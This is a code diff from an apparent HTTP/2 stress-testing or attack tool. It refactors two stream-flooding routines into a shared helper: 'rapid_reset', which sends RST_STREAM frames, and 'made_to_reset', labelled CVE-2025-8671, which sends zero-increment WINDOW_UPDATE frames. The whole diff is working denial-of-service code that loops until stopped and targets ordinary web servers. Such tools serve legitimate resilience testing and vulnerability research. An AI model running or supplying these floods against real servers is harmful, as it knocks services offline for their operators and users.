@@ -24,30 +24,27 @@ def until(stop: threading.Event, send, batch: int = 50) -> int:
     return sent
 
 
-def rapid_reset(connection, side, stop):
+def begun_and(connection, side, stop, kind: int, payload: bytes) -> int:
+    """Streams that are begun, and a frame for each."""
+
     def send():
         data = b""
         for _ in range(50):
             stream = connection.stream()
             data += connection.head(head(side.key, None), stream, end=False)
-            data += frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
+            data += frame(kind, 0, stream, payload)
         connection.send(data)
 
     return until(stop, send, 100)
+
+
+def rapid_reset(connection, side, stop):
+    return begun_and(connection, side, stop, http2.RST_STREAM, struct.pack(">I", 8))
 
 
 def made_to_reset(connection, side, stop):
     """CVE-2025-8671: the server is made to reset streams itself."""
-
-    def send():
-        data = b""
-        for _ in range(50):
-            stream = connection.stream()
-            data += connection.head(head(side.key, None), stream, end=False)
-            data += frame(http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
-        connection.send(data)
-
-    return until(stop, send, 100)
+    return begun_and(connection, side, stop, http2.WINDOW_UPDATE, struct.pack(">I", 0))
 
 
 def continuation(connection, side, stop):
